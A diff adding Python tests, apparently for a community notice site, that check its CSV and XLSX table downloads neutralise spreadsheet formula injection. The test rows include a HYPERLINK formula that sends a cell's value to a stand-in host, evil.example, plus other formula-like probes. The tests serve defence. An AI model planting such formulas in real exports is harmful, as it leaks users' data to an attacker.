@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 from conftest import BASE_FILE, Site
 from helpers import find
 from notices_support import XINGFU, add_notice, post_notice, staff_app
+from shequ.tree.ops import modify
 
 ROWS = [
     {'date': '2025-07-03', 'item': '收取门面房租金', 'income': '12000', 'note': '第三季度'},
@@ -102,3 +103,60 @@ def test_a_notice_without_table_has_no_table_download(demo):
     with demo.root() as root:
         add_notice(root, XINGFU, 'gongnuan', '冬季供暖通知')
     demo.app.get(XINGFU + '/notices/gongnuan/@@table.csv', status=404)
+
+
+# --- cells that would run as formulas in Excel or WPS are defused in both downloads ---
+
+HOSTILE_ROWS = [
+    {'date': '2025-10-01', 'item': '=HYPERLINK("http://evil.example/?"&A1,"点击")', 'income': '10'},
+    {'date': '2025-10-02', 'item': '+1+2', 'expense': '20', 'note': '-2+3'},
+    {'date': '2025-10-03', 'item': '@SUM(1,2)', 'expense': '30', 'note': '＝1+1'},
+    {'date': '2025-10-04', 'item': '普通支出', 'expense': '50', 'note': "'已引用"},
+]
+DEFUSED = ['\'=HYPERLINK("http://evil.example/?"&A1,"点击")', "'+1+2", "'@SUM(1,2)", '普通支出']
+
+
+@pytest.fixture(scope='module')
+def hostile(tmp_path_factory):
+    """Rows whose entries and notes begin like formulas (a tab and CR added directly)."""
+    site = Site(tmp_path_factory.mktemp('hostile'))
+    site.load(BASE_FILE)
+    res = post_notice(staff_app(site), title='公式注入测试', category='财务公开', rows=HOSTILE_ROWS)
+    url = res.location.replace('http://localhost', '')
+    with site.root() as root:
+        notice = find(root, url)
+        table = [dict(r) for r in notice.table]
+        table[3]['note'] = '\tcmd'
+        table.append({'date': None, 'item': '\r=1+1', 'income': None, 'expense': Decimal('5')})
+        modify(notice, site.registry, table=table)
+    yield site, url
+    site.close()
+
+
+def test_csv_cells_that_look_like_formulas_start_with_a_quote(hostile):
+    site, url = hostile
+    body = site.app.get(url + '@@table.csv').body.decode('utf-8-sig')
+    rows = list(csv.reader(io.StringIO(body)))
+    assert [r[1] for r in rows[1:5]] == DEFUSED and rows[5][1] == "'\r=1+1"
+    assert [r[4] for r in rows[2:5]] == ["'-2+3", "'＝1+1", "'\tcmd"]
+    assert rows[-1][0] == '结余' and rows[-1][2] == '-95.00'        # a negative amount stays a number
+
+
+def test_xlsx_cells_that_look_like_formulas_are_text_and_amounts_stay_numbers(hostile):
+    site, url = hostile
+    ws = load_workbook(io.BytesIO(site.app.get(url + '@@table.xlsx').body)).active
+    items = [ws.cell(row=n, column=2) for n in range(2, 7)]
+    assert [c.value for c in items[:4]] == DEFUSED and items[4].value == "'\r=1+1"
+    assert all(c.data_type == 's' for c in items)
+    assert [c.quotePrefix for c in items] == [True, True, True, False, True]
+    assert [ws.cell(row=n, column=5).value for n in (3, 4, 5)] == ["'-2+3", "'＝1+1", "'\tcmd"]
+    assert not any(c.data_type == 'f' for row in ws.iter_rows() for c in row)
+    amounts = [ws.cell(row=n, column=c).value for n, c in ((2, 3), (3, 4), (6, 4))]
+    assert amounts == [10, 20, 5] and all(isinstance(a, (int, float)) for a in amounts)
+    assert ws.cell(row=8, column=3).value == -95                    # the balance, a number
+
+
+def test_xlsx_drops_control_characters_xml_cannot_hold_instead_of_failing():
+    from shequ.notices.table import to_xlsx
+    ws = load_workbook(io.BytesIO(to_xlsx([['垂直\x0b制表\x01', Decimal('1.50')]], '表'))).active
+    assert ws['A1'].value == '垂直制表' and ws['B1'].value == 1.5
